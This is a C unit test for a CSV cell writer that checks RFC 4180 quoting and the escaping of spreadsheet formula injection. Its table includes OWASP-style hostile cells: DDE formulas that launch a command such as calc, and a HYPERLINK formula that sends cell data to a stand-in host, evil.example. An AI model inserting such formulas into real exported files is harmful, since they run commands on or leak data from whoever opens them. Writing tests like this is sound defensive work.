/* test_csv_out.c: csv_cell, the one CSV cell writer of every export: RFC 4180 quoting and hostile cells. */
/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <cmocka.h>

#include "csv_out.h"

static void
test_hostile(void **state)
{
	static const char *const cells[][2] = {
	    /* OWASP's examples, and the leading characters one by one */
	    {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	    {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
	    {"-1+HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
	        "\"'-1+HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\""},
	    {"=1+1", "'=1+1"},
	    {"+1+1", "'+1+1"},
	    {"-1", "'-1"},
	    {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
	    {" @SUM(A1)", "' @SUM(A1)"},
	    {"   =1+1", "'   =1+1"},
	    {"\t=1+1", "'\t=1+1"},
	    {"\tX.sec", "'\tX.sec"},
	    {"\r=1+1", "\"'\r=1+1\""},
	    {"=A1,B1", "\"'=A1,B1\""},
	    /* not formulas: as written */
	    {"x=1", "x=1"},
	    {"Title with = inside", "Title with = inside"},
	    {"a-b", "a-b"},
	    {"   ", "   "},
	    {"", ""},
	    /* RFC 4180 */
	    {"a,b", "\"a,b\""},
	    {"say \"hi\"", "\"say \"\"hi\"\"\""},
	    {"two\nlines", "\"two\nlines\""},
	    {"crlf\r\nlines", "\"crlf\r\nlines\""},
	};
	struct buf b = {0};

	(void)state;
	for (size_t i = 0; i < sizeof(cells) / sizeof(*cells); i++) {
		buf_reset(&b);
		csv_cell(&b, cells[i][0]);
		if (strcmp(buf_str(&b), cells[i][1]) != 0)
			fail_msg("cell %zu: got [%s], want [%s]", i, buf_str(&b), cells[i][1]);
	}
	buf_reset(&b);
	csv_cell(&b, NULL);
	assert_string_equal(buf_str(&b), "");
	buf_free(&b);
	assert_int_equal(csv_formula_like(" -x"), 1);
	assert_int_equal(csv_formula_like("x-"), 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_hostile),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
